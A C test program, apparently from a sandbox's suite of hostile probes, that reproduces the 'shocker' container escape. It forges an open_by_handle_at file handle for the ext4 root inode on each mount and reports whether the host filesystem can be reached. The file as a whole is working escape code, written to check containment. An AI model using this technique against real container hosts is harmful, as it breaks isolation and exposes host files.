/* shocker [MOUNT_POINT...]: open files outside the cell by forged file handle.
 *
 * Attacks: open_by_handle_at(2), the "shocker" escape from Docker 1.0 (2014). A file handle
 * names an inode on a filesystem directly, without a path, so it is not limited by the
 * cell's root or by which subdirectory of the filesystem was bind-mounted in. Any bind
 * mount from the host (the test programs at /t, inputs, an output directory) hands the cell
 * a "mount fd" on a host filesystem; with it, a forged handle of that filesystem's root
 * directory (ext2/3/4: inode 2, generation 0) opens the host's real root. The kernel allows
 * this to holders of CAP_DAC_READ_SEARCH (newer kernels also let a user namespace's root
 * decode handles, but only to files under its own mount).
 *
 * For each directory mount point (argument, or every mount in /proc/self/mountinfo):
 *   name_to_handle_at   get the mount point's own handle (type, size). EOPNOTSUPP for
 *                       filesystems without export support (procfs, overlay by default).
 *   open_by_handle_at   handle=own: replay that handle (tells if the call works at all);
 *                       handle=forged-root: inode 2 generation 0 in the same handle type
 *                       (FILEID_INO32_GEN, the type ext4 uses), opened as a directory.
 *                       Then the opened directory is compared with the mount point: the same
 *                       inode is harmless (the mount was the filesystem's root), another
 *                       directory is an escape, and its first entries are listed.
 * Then shocker summarises.
 *
 * Expected in a cell: name_to_handle_at may be OK (it needs no privilege);
 * open_by_handle_at EPERM for every handle (no CAP_DAC_READ_SEARCH; or the policy's errno);
 * shocker CONTAINED.
 *
 * Output: RESULT name_to_handle_at OK|<errno> mount=<mp> [type=<n> bytes=<n>]
 *         RESULT open_by_handle_at OK|<errno> mount=<mp> handle=own|forged-root [found=SAME|OUTSIDE
 *               ino=<n> entries=<names>]
 *         RESULT shocker CONTAINED|ESCAPED tried=<mounts> outside=<mount points>
 */
#include "hostile.h"

#include <dirent.h>
#include <fcntl.h>
#include <stdint.h>
#include <sys/stat.h>

#define HANDLE_BYTES 128
#define FILEID_INO32_GEN 1

struct handle {
    struct file_handle fh;
    unsigned char bytes[HANDLE_BYTES];
};

static void list_dir(int fd, char *out, size_t size)
{
    out[0] = '\0';
    int dfd = dup(fd);
    DIR *d = dfd >= 0 ? fdopendir(dfd) : NULL;
    if (!d) {
        if (dfd >= 0)
            close(dfd);
        snprintf(out, size, "?");
        return;
    }
    struct dirent *e;
    size_t len = 0;
    int shown = 0;
    while ((e = readdir(d)) != NULL && shown < 10) {
        if (e->d_name[0] == '.')
            continue;
        int n = snprintf(out + len, size - len, "%s%s", shown ? "," : "", e->d_name);
        if (n < 0 || (size_t)n >= size - len)
            break;
        len += (size_t)n;
        shown++;
    }
    closedir(d);
}

/* Tries one handle; returns 1 if it opened something other than the mount point. */
static int try_open(const char *mp, int mount_fd, const struct stat *mp_st, struct handle *h,
                    const char *label)
{
    int fd = open_by_handle_at(mount_fd, &h->fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        result("open_by_handle_at", errno_name(errno), "mount=%s handle=%s", mp, label);
        return 0;
    }
    struct stat st;
    fstat(fd, &st);
    int outside = st.st_dev != mp_st->st_dev || st.st_ino != mp_st->st_ino;
    char entries[512];
    list_dir(fd, entries, sizeof entries);
    close(fd);
    result("open_by_handle_at", "OK", "mount=%s handle=%s found=%s ino=%lu entries=%s", mp, label,
           outside ? "OUTSIDE" : "SAME", (unsigned long)st.st_ino, entries);
    return outside;
}

static int try_mount_point(const char *mp, char *outside_list, size_t size)
{
    struct stat mp_st;
    if (stat(mp, &mp_st) < 0 || !S_ISDIR(mp_st.st_mode))
        return 0; /* device nodes bound into /dev: nothing to anchor a handle on */
    struct handle h;
    int mount_id;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = HANDLE_BYTES;
    if (name_to_handle_at(AT_FDCWD, mp, &h.fh, &mount_id, 0) < 0) {
        result("name_to_handle_at", errno_name(errno), "mount=%s", mp);
        return 0;
    }
    result("name_to_handle_at", "OK", "mount=%s type=%d bytes=%u", mp, h.fh.handle_type,
           h.fh.handle_bytes);

    int mount_fd = open(mp, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mount_fd < 0 || fstat(mount_fd, &mp_st) < 0) {
        result("open_by_handle_at", errno_name(errno), "mount=%s step=open-mount-fd", mp);
        if (mount_fd >= 0)
            close(mount_fd);
        return 0;
    }
    int escaped = try_open(mp, mount_fd, &mp_st, &h, "own");

    if (h.fh.handle_type == FILEID_INO32_GEN && h.fh.handle_bytes == 8) {
        uint32_t forged[2] = {2, 0}; /* inode 2 (the root of ext2/3/4), generation 0 */
        memcpy(h.fh.f_handle, forged, sizeof forged);
        escaped |= try_open(mp, mount_fd, &mp_st, &h, "forged-root");
    } else {
        result("open_by_handle_at", "SKIPPED", "mount=%s handle=forged-root type=%d", mp,
               h.fh.handle_type);
    }
    close(mount_fd);
    if (escaped) {
        size_t len = strlen(outside_list);
        snprintf(outside_list + len, size - len, "%s%s", len ? "," : "", mp);
    }
    return escaped;
}

int main(int argc, char **argv)
{
    static char outside[2048];
    int tried = 0, escaped = 0;
    if (argc > 1) {
        for (int i = 1; i < argc; i++, tried++)
            escaped |= try_mount_point(argv[i], outside, sizeof outside);
    } else {
        FILE *f = fopen("/proc/self/mountinfo", "re");
        if (!f) {
            result("shocker", errno_name(errno), "step=mountinfo");
            return 0;
        }
        char line[4096], mp[1024];
        while (fgets(line, sizeof line, f)) {
            if (sscanf(line, "%*d %*d %*s %*s %1023s", mp) != 1)
                continue;
            escaped |= try_mount_point(mp, outside, sizeof outside);
            tried++;
        }
        fclose(f);
    }
    result("shocker", escaped ? "ESCAPED" : "CONTAINED", "tried=%d outside=%s", tried,
           outside[0] ? outside : "-");
    return 0;
}
